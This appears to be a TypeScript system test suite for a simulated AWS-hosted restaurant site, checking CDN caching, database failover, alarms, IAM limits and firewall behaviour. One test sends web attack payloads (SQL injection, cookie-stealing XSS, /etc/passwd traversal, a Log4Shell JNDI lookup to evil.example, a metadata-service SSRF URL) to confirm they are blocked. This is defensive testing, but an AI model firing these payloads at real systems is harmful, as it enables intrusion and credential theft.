import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { AutoScalingClient, DescribePoliciesCommand } from '@aws-sdk/client-auto-scaling';
import { CloudFrontClient, ListDistributionsCommand } from '@aws-sdk/client-cloudfront';
import {
  CloudWatchClient,
  DescribeAlarmsCommand,
  GetDashboardCommand,
  GetMetricStatisticsCommand,
} from '@aws-sdk/client-cloudwatch';
import {
  CloudWatchLogsClient,
  DescribeLogGroupsCommand,
  FilterLogEventsCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import { DescribeInstancesCommand, DescribeRouteTablesCommand, EC2Client } from '@aws-sdk/client-ec2';
import {
  DescribeTargetGroupsCommand,
  DescribeTargetHealthCommand,
  ElasticLoadBalancingV2Client,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import { DescribeDBClustersCommand, DescribeDBInstancesCommand, RDSClient } from '@aws-sdk/client-rds';
import { GetPublicAccessBlockCommand, ListBucketsCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { GetSecretValueCommand, ListSecretsCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { browserMissing } from '../../app/site/browser.ts';
import { costReport } from '../../runtime/cost/cost-report.ts';
import { eventually } from './system-fixture.ts';
import { customer, lacking, type Restaurant, roleCredentials, startRestaurant } from './web-classic.fixture.ts';
import { useTheSite } from './web-classic-browser.ts';
import { seeInConsole } from './web-classic-console.ts';
import {
  activities,
  databasePassword,
  fleetIsWhole,
  killWriter,
  killZone,
  measure,
  rotatePassword,
  writerOf,
} from './web-classic-failures.ts';

describe('web-classic', { skip: lacking }, () => {
  let restaurant: Restaurant;
  before(async () => {
    restaurant = await startRestaurant();
  });
  after(() => restaurant?.stop());

  async function targetGroups() {
    const elb = restaurant.client(ElasticLoadBalancingV2Client);
    const { TargetGroups = [] } = await elb.send(new DescribeTargetGroupsCommand({}));
    return Promise.all(
      TargetGroups.map(async ({ TargetGroupArn, Port }) => {
        const { TargetHealthDescriptions = [] } = await elb.send(new DescribeTargetHealthCommand({ TargetGroupArn }));
        return { Port, targets: TargetHealthDescriptions };
      }),
    );
  }

  test('W-B1 W-A1 the site’s name leads to the distribution, and what the edge has ends there', async () => {
    const { DistributionList } = await restaurant.client(CloudFrontClient).send(new ListDistributionsCommand({}));
    const [distribution] = DistributionList?.Items ?? [];
    assert.deepEqual(
      await restaurant.addresses(restaurant.value('SiteDomain')),
      await restaurant.addresses(distribution?.DomainName ?? ''),
    );
    const first = await restaurant.followed('/');
    assert.equal(first.answer.status, 200);
    assert.match(first.answer.text, /<title>/);
    assert.deepEqual(first.services.sort(), ['cloudfront', 'gateway', 'route53', 's3', 'wafv2']);
    const again = await restaurant.followed('/');
    assert.match(again.answer.headers['x-cache'] ?? '', /^Hit/);
    assert.ok(!again.services.includes('s3'));
  });

  test('W-A2 W-B2 W-B4 W-B5 a miss goes on through firewall and load balancer to an instance of either zone', async () => {
    const { answer, services } = await restaurant.followed('/api/reservations/hours?one');
    assert.equal(answer.status, 200);
    assert.deepEqual(services.sort(), ['cloudfront', 'elbv2', 'gateway', 'route53', 'wafv2']);
    const groups = await eventually(
      'two healthy instances in each target group',
      async () => {
        const found = await targetGroups();
        const healthy = found.every(
          ({ targets }) =>
            targets.length === 2 && targets.every(({ TargetHealth }) => TargetHealth?.State === 'healthy'),
        );
        return healthy ? found : undefined;
      },
      60_000,
    );
    assert.deepEqual(groups.map(({ Port }) => Port).sort(), [8081, 8082, 8083]);
    const InstanceIds = groups[0]?.targets.map(({ Target }) => Target?.Id ?? '');
    const { Reservations = [] } = await restaurant
      .client(EC2Client)
      .send(new DescribeInstancesCommand({ InstanceIds }));
    const zones = Reservations.flatMap(({ Instances = [] }) =>
      Instances.map(({ Placement }) => Placement?.AvailabilityZone),
    );
    assert.deepEqual(zones.sort(), ['us-east-1a', 'us-east-1b']);
  });

  test('W-C4 the menu is asked of an instance once, and then answered at the edge', async () => {
    const paths = await Promise.all(
      ['/api/menu?guest', '/images/oysters.svg'].map(async (path) => {
        await restaurant.visit(path);
        const [one, two] = [await restaurant.followed(path), await restaurant.followed(path)];
        return { path, services: [...one.services, ...two.services], cache: two.answer.headers['x-cache'] };
      }),
    );
    for (const { path, services, cache } of paths) {
      assert.match(cache ?? '', /^Hit/, path);
      assert.ok(!services.includes('elbv2') && !services.includes('s3'), path);
    }
  });

  test('W-A3 W-B6 an order is kept in Aurora, whose writer and reader are in two zones, encrypted, with backups', async () => {
    const placed = await restaurant.order();
    assert.equal(placed.status, 202, placed.text);
    const { href } = placed.json<{ href: string }>();
    const read = await restaurant.visit(href);
    assert.partialDeepStrictEqual(read.json(), { total: 2900, currency: 'GBP' });
    const rds = restaurant.client(RDSClient);
    const DBClusterIdentifier = restaurant.value('ClusterIdentifier');
    const { DBClusters = [] } = await rds.send(new DescribeDBClustersCommand({ DBClusterIdentifier }));
    assert.partialDeepStrictEqual(DBClusters[0], {
      MultiAZ: true,
      StorageEncrypted: true,
      BackupRetentionPeriod: 7,
      Endpoint: restaurant.value('ClusterEndpoint'),
    });
    const { DBInstances = [] } = await rds.send(new DescribeDBInstancesCommand({}));
    assert.deepEqual(DBInstances.map(({ AvailabilityZone }) => AvailabilityZone).sort(), ['us-east-1a', 'us-east-1b']);
    assert.ok(DBInstances.every(({ PubliclyAccessible }) => PubliclyAccessible === false));
  });

  test('W-A4 W-B7 W-B8 the admin gets a mail for an order', async () => {
    assert.equal((await restaurant.order()).status, 202);
    const mail = await restaurant.mailTo(
      restaurant.value('AdminEmail'),
      /^New order: 2 dishes for Ada Fisher, £29\.00$/,
    );
    assert.match(mail.html, /Ada Fisher/);
    assert.match(mail.text, /ada@example\.com/);
  });

  test('W-B2 what is not there is the site’s own page, and the services’ refusals are theirs', async () => {
    const words: Record<string, RegExp> = {
      '/no-such-page': /Gone out with the tide/,
      '/images/no-such.svg': /Gone out with the tide/,
      '/api/orders/no-such-order': /"type"/,
      '/api/no-such-thing': /"type"/,
    };
    for (const [path, word] of Object.entries(words)) {
      const answer = await restaurant.visit(path);
      assert.equal(answer.status, 404, path);
      assert.match(answer.text, word, path);
    }
    const forged = await restaurant.visit('/admin/sign-in', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'email=a%40b.example&password=x&token=y',
    });
    assert.equal(forged.status, 403);
    assert.match(forged.text, /had grown old/);
  });

  test('of two guests who want the last table at once, one gets it', async () => {
    const wanted = { day: nextSaturday(restaurant.clock.now()), time: '19:00', party: 8, guest: customer };
    const book = () => restaurant.visit('/api/reservations', { method: 'POST', body: wanted });
    const answers = await Promise.all([book(), book()]);
    assert.deepEqual(answers.map(({ status }) => status).sort(), [201, 409], answers.map(({ text }) => text).join());
  });

  test('W-A1 in a browser guests order and reserve, and the admin publishes a page with a picture', async (t) => {
    const missing = browserMissing();
    if (missing) return t.skip(missing);
    restaurant.placed.push(await useTheSite(restaurant));
  });

  test('the web console shows its map with what flows and what is struck, the way of an order, and every page', async (t) => {
    const missing = browserMissing();
    if (missing) return t.skip(missing);
    await seeInConsole(restaurant);
  });

  test('W-C3 W-B3 six kinds of attack are blocked and counted, and a guest’s day is not', async () => {
    const attacks: Record<string, () => ReturnType<Restaurant['visit']>> = {
      'SQL injection': () =>
        restaurant.visit(`/api/orders/x?id=${encodeURIComponent("1' OR '1'='1' UNION SELECT password FROM users--")}`),
      'cross-site scripting': () =>
        restaurant.visit(`/?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`),
      'path traversal': () =>
        restaurant.visit(`/api/content/page?file=${encodeURIComponent('../../../../etc/passwd')}`),
      'a bad bot': () => restaurant.visit('/', { headers: { 'user-agent': 'nessus' } }),
      Log4Shell: () => restaurant.visit('/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }),
      'reading the metadata service': () =>
        restaurant.visit(`/?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`),
    };
    for (const [kind, attack] of Object.entries(attacks)) assert.equal((await attack()).status, 403, kind);
    const day = [
      () => restaurant.visit('/'),
      () => restaurant.visit('/menu-view.js'),
      () => restaurant.visit('/api/menu'),
      () => restaurant.visit('/reserve.html'),
      () => restaurant.visit(`/api/reservations/availability?day=${dayFrom(restaurant.clock.now(), 3)}&party=4`),
      () =>
        restaurant.visit('/api/orders', {
          method: 'POST',
          body: {
            customer: { ...customer, name: "Siobhán O'Hara & Sons" },
            items: [{ sku: 'chowder', quantity: 1 }],
            note: 'No <salt>, please; select the smaller one — thanks!',
          },
        }),
      () => restaurant.visit('/admin/sign-in'),
    ];
    for (const visit of day) {
      const answer = await visit();
      assert.ok(answer.status < 400, `${visit}: ${answer.status} ${answer.text}`);
      if (answer.status === 202) restaurant.placed.push(answer.json<{ orderId: string }>().orderId);
    }
    let shed = 0;
    for (let batch = 0; batch < 44; batch += 1) {
      const flood = await Promise.all(Array.from({ length: 50 }, () => restaurant.visit('/app.css')));
      shed += flood.filter(({ status }) => status === 429).length;
    }
    assert.ok(shed > 0, 'a flood is shed');
    await restaurant.clock.wind(6 * 60_000);
    const { Datapoints = [] } = await restaurant.client(CloudWatchClient).send(
      new GetMetricStatisticsCommand({
        Namespace: 'AWS/WAFV2',
        MetricName: 'BlockedRequests',
        Dimensions: [
          { Name: 'WebACL', Value: 'web-classic-EdgeFirewall' },
          { Name: 'Rule', Value: 'ALL' },
        ],
        StartTime: new Date(restaurant.clock.now() - 3_600_000),
        EndTime: new Date(restaurant.clock.now()),
        Period: 3600,
        Statistics: ['Sum'],
      }),
    );
    const blocked = Datapoints.reduce((sum, { Sum = 0 }) => sum + Sum, 0);
    assert.ok(blocked >= Object.keys(attacks).length, `${blocked} blocked requests were counted`);
  });

  test('W-B9 alarms watch and a dashboard shows what was measured', async () => {
    const cloudwatch = restaurant.client(CloudWatchClient);
    const { MetricAlarms = [] } = await cloudwatch.send(new DescribeAlarmsCommand({}));
    const ofStack = MetricAlarms.filter(({ AlarmActions = [] }) => AlarmActions.some((arn) => arn.includes(':sns:')));
    assert.ok(ofStack.length >= 9, `${ofStack.length} alarms`);
    const alarmed = ofStack.filter(({ StateValue }) => StateValue === 'ALARM').map(({ AlarmName }) => AlarmName);
    assert.deepEqual(alarmed, []);
    const { DashboardBody = '{}' } = await cloudwatch.send(new GetDashboardCommand({ DashboardName: 'web-classic' }));
    assert.equal(JSON.parse(DashboardBody).widgets.length, 9);
  });

  test('W-A5 W-B7 W-B9 the end of the month brings the sales report by mail, from what Aurora holds', async () => {
    assert.equal((await restaurant.order()).status, 202);
    const pounds = await totalOf(restaurant);
    await restaurant.clock.wind(9 * 3_600_000);
    const mail = await restaurant.mailTo(restaurant.value('AdminEmail'), /^Sales/);
    assert.ok(mail.subject.endsWith(pounds), `${mail.subject}, though ${pounds} were ordered`);
    assert.ok(
      mail.attachments.some((name) => name.endsWith('.csv')),
      mail.attachments.join(),
    );
  });

  test('W-B10 the instances’ role reads its secrets and nothing else, and the database’s subnets lead nowhere', async () => {
    const credentials = await roleCredentials(restaurant, 'FleetRole');
    const secrets = restaurant.client(SecretsManagerClient, { credentials });
    const listed = await restaurant.client(SecretsManagerClient).send(new ListSecretsCommand({}));
    const secretOf = (part: string) => listed.SecretList?.find(({ Name }) => Name?.includes(part))?.ARN;
    const database = await secrets.send(new GetSecretValueCommand({ SecretId: secretOf('DatabaseCluster') }));
    assert.partialDeepStrictEqual(JSON.parse(database.SecretString ?? '{}'), {
      host: restaurant.value('ClusterEndpoint'),
      dbname: 'restaurant',
    });
    const refused = { name: 'AccessDeniedException' };
    await assert.rejects(secrets.send(new GetSecretValueCommand({ SecretId: secretOf('OriginSecret') })), refused);
    await assert.rejects(secrets.send(new ListSecretsCommand({})), refused);
    const { Buckets = [] } = await restaurant.client(S3Client).send(new ListBucketsCommand({}));
    const site = Buckets.find(({ Name }) => Name?.includes('sitebucket'))?.Name;
    const put = new PutObjectCommand({ Bucket: site, Key: 'index.html', Body: 'defaced' });
    await assert.rejects(restaurant.client(S3Client, { credentials }).send(put), { name: 'AccessDenied' });
    const { RouteTables = [] } = await restaurant
      .client(EC2Client)
      .send(new DescribeRouteTablesCommand({ Filters: [{ Name: 'tag:Name', Values: ['*databaseSubnet*'] }] }));
    const ways = RouteTables.map(({ Routes = [] }) => Routes.map(({ GatewayId }) => GatewayId));
    assert.deepEqual(ways, [['local'], ['local']]);
  });

  test('W-C6 W-C7 the bill says what the system costs by the hour, service by service', async () => {
    const { bill } = await costReport(restaurant.kernel, { period: 'start' });
    const services = new Set(bill.lines.filter(({ cost }) => cost > 0).map(({ service }) => service));
    for (const service of ['ec2', 'elbv2', 'rds', 'cloudfront', 'wafv2', 'secretsmanager', 'cloudwatch'])
      assert.ok(services.has(service), `${service} is not among ${[...services]}`);
  });

  test('W-C7 operations, security, reliability and performance have a check each', async () => {
    const logs = restaurant.client(CloudWatchLogsClient);
    const { logGroups = [] } = await logs.send(new DescribeLogGroupsCommand({}));
    const waf = logGroups.find(({ logGroupName }) => logGroupName?.startsWith('aws-waf-logs-web-classic-Edge'));
    const { events = [] } = await logs.send(new FilterLogEventsCommand({ logGroupName: waf?.logGroupName }));
    assert.ok(
      events.some(({ message = '' }) => message.includes('"action":"BLOCK"')),
      'what was blocked is in the log',
    );
    const s3 = restaurant.client(S3Client);
    const { Buckets = [] } = await s3.send(new ListBucketsCommand({}));
    for (const { Name: Bucket } of Buckets.filter(({ Name }) => Name?.startsWith('web-classic-'))) {
      const { PublicAccessBlockConfiguration } = await s3.send(new GetPublicAccessBlockCommand({ Bucket }));
      assert.equal(PublicAccessBlockConfiguration?.RestrictPublicBuckets, true, Bucket);
    }
    const healthy = (await targetGroups()).flatMap(({ targets }) =>
      targets.map(({ TargetHealth }) => TargetHealth?.State),
    );
    assert.deepEqual([...new Set(healthy)], ['healthy']);
    const { ScalingPolicies = [] } = await restaurant.client(AutoScalingClient).send(new DescribePoliciesCommand({}));
    assert.deepEqual([...new Set(ScalingPolicies.map(({ PolicyType }) => PolicyType))], ['TargetTrackingScaling']);
    assert.match((await restaurant.visit('/app.css')).headers['content-encoding'] ?? 'none', /none|br|gzip/);
  });

  test('W-C7 the database’s password is changed under load, and no guest notices', async (t) => {
    const before = await databasePassword(restaurant);
    const { lost, ...measured } = await measure(restaurant, {
      breakIt: () => rotatePassword(restaurant),
      whole: async () => {
        await eventually(
          'the secret has another password',
          async () => ((await databasePassword(restaurant)) === before ? undefined : true),
          60_000,
        );
        // More at once than there are connections: every instance has to open new ones, for which the old password is over.
        const crowd = await Promise.all(Array.from({ length: 40 }, () => restaurant.order()));
        assert.deepEqual([...new Set(crowd.map(({ status }) => status))], [202]);
      },
    });
    t.diagnostic(`password changed: ${JSON.stringify(measured)}, orders lost: ${lost}`);
    assert.deepEqual([measured.failed, lost], [0, 0]);
  });

  test('W-C1 all instances of a zone are killed under load: others serve, new ones come, no order is lost', async (t) => {
    let gone: string[] = [];
    const { lost, ...measured } = await measure(restaurant, {
      breakIt: async () => {
        gone = await killZone(restaurant, 'us-east-1a');
      },
      whole: () => fleetIsWhole(restaurant, gone),
    });
    t.diagnostic(`zone killed: ${JSON.stringify(measured)}, orders lost: ${lost}`);
    assert.equal(lost, 0);
    assert.ok(measured.failed < measured.requests / 2, JSON.stringify(measured));
    const causes = await activities(restaurant);
    assert.ok(
      causes.some((cause) => /launched in response to an unhealthy instance needing to be replaced/.test(cause)),
    );
  });

  test('W-C1 W-C5 the Aurora writer is killed under load: its copy goes on, with every order', async (t) => {
    const before = await writerOf(restaurant);
    const { lost, ...measured } = await measure(restaurant, {
      breakIt: () => killWriter(restaurant),
      whole: () =>
        eventually(
          'the reader is the writer',
          async () => ((await writerOf(restaurant)) === before ? undefined : true),
          60_000,
        ),
    });
    t.diagnostic(`writer killed: ${JSON.stringify(measured)}, orders lost: ${lost}`);
    assert.equal(lost, 0);
    const after = await restaurant.order();
    assert.equal(after.status, 202, after.text);
  });
});

/** `yyyy-mm-dd`; the restaurant is open then. */
function nextSaturday(nowMs: number): string {
  const days = 2 + ((6 - new Date(nowMs + 2 * 86_400_000).getUTCDay() + 7) % 7);
  return dayFrom(nowMs, days);
}

/** `yyyy-mm-dd`, some days from now. */
function dayFrom(nowMs: number, days: number): string {
  return new Date(nowMs + days * 86_400_000).toISOString().slice(0, 10);
}

/** Of every order that was accepted, as the desk would add it up: £29.00. */
async function totalOf(restaurant: Restaurant): Promise<string> {
  let pence = 0;
  for (const id of restaurant.placed)
    pence += (await restaurant.visit(`/api/orders/${id}`)).json<{ total: number }>().total;
  return new Intl.NumberFormat('en-GB', { style: 'currency', currency: 'GBP' }).format(pence / 100);
}
